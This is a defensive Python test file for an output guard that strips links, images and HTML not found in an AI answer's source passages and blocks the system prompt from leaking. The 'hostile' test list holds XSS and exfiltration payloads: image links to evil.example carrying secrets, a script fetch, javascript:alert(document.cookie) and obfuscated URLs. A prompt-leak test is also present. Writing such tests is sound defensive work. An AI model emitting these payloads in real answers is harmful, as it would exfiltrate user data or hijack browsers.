"""What an answer may not say, however it streams."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mindset.generation.prompt import SYSTEM
from mindset.guardrails.answers import LEAK_WORDS, REMOVED, AnswerGuard, links_of

KNOWN = "https://docs.example.org/rollback"
PASSAGES = [f"See [how to roll back]({KNOWN}) or https://docs.example.org/other."]


def through(*pieces: str, system: str = "") -> tuple[str, set[str]]:
    guard = AnswerGuard(links_of(PASSAGES), system, PASSAGES)
    return "".join([*map(guard.feed, pieces), guard.finish()]), guard.broken


@pytest.mark.parametrize(
    "hostile",
    [
        "See [this](https://evil.example/x).",
        'See [this](http://evil.example/x "title").',
        "See [this](<https://evil.example/x>).",
        "See [this](//evil.example/x).",
        "![logo](https://evil.example/pixel.png?q=secret)",
        f"![logo]({KNOWN})",
        "[![logo](https://evil.example/p.png)](https://evil.example)",
        "Go to https://evil.example/x now",
        "Go to HTTPS://EVIL.EXAMPLE/x now",
        "Go to www.evil.example/x now",
        "Go to ftp://evil.example/x now",
        "Go to //evil.example/x now",
        "<https://evil.example/x>",
        "<a href='https://evil.example/x'>here</a>",
        "<img src=x onerror=alert(1)>",
        "<script>fetch('https://evil.example')</script>",
        "<iframe src='//evil.example'></iframe>",
        "[a]: https://evil.example/x\n\n[see][a]",
        "[x](javascript:alert(1))",
        "javascript:alert(document.cookie)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](&#104;ttps://evil.example)",
        "[x](https:\\\\evil.example)",
        f"{KNOWN}@evil.example/x is where",
        f"{KNOWN}.evil.example/x is where",
        "[a [b] c](https://evil.example/x)",
        "(https://evil.example/x)",
        "**https://evil.example/x**",
        "`https://evil.example/x`",
    ],
)
def test_no_link_image_or_tag_that_no_passage_has_comes_out(hostile: str) -> None:
    text, broken = through(hostile)
    assert broken
    assert "evil.example/" not in text.lower().replace(REMOVED, "")
    assert not re.search(r"!\[|\]\(|<(?:a|img|script|iframe)\b|javascript:|data:", text, re.IGNORECASE)


def test_links_of_passages_may_be_said() -> None:
    text, broken = through(f"It is at {KNOWN}, and [here](https://docs.example.org/other).")
    assert text == f"It is at {KNOWN}, and here https://docs.example.org/other."
    assert broken == set()


@pytest.mark.parametrize(
    "honest",
    [
        "Run `mindset rollback docs` [1] and see [2][3].",
        "Ratios: 1:2, a < b, x > y, List<String>, 10:30 o'clock, key: value; a/b, and/or, C:\\data.",
        "An array a[0], a range [1-3], [x] done, and a note [sic].",
        "data: the word, and javascript: the language",
    ],
)
def test_honest_text_passes_as_it_is(honest: str) -> None:
    assert through(honest) == (honest, set())


def test_what_the_system_was_told_is_not_told() -> None:
    for said in (
        SYSTEM,
        SYSTEM.upper(),
        SYSTEM.replace(" ", "\n"),
        f"Sure! Here it is: {' '.join(SYSTEM.split()[30:50])}",
    ):
        text, broken = through(said, system=SYSTEM)
        assert "leaked-system-text" in broken
        assert len(text.split()) < 60


def test_a_few_words_that_the_system_also_says_are_no_leak() -> None:
    words = " ".join(SYSTEM.split()[5 : 5 + LEAK_WORDS - 2])
    assert through(words, system=SYSTEM) == (words, set())


def test_a_document_about_the_prompt_may_be_quoted() -> None:
    guard = AnswerGuard(frozenset(), SYSTEM, [SYSTEM])
    assert guard.feed(SYSTEM) + guard.finish() == SYSTEM
    assert not guard.leaked


TEXTS = st.lists(
    st.sampled_from(
        ["[", "]", "(", ")", "!", "<", ">", " ", "\n", "a", "1", "https://", "evil.example", "/x", KNOWN, "www.", "//", ":",
         "javascript:", "data:,", "a href=", "img ", ".", "[1]", "](", "words of it "]
    ),
    max_size=30,
).map("".join)  # fmt: skip


@given(TEXTS, st.data())
def test_however_it_is_cut_into_pieces_the_same_comes_out(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert through(*pieces)[0] == through(text)[0]


@given(TEXTS)
def test_nothing_that_comes_out_is_a_foreign_link(text: str) -> None:
    out, _ = through(text)
    assert all(each.startswith("https://docs.example.org/") for each in links_of([out]))
    assert not re.search(r"!\[[^\]\n]*\]\(\s*(?:https?:|//)", out)
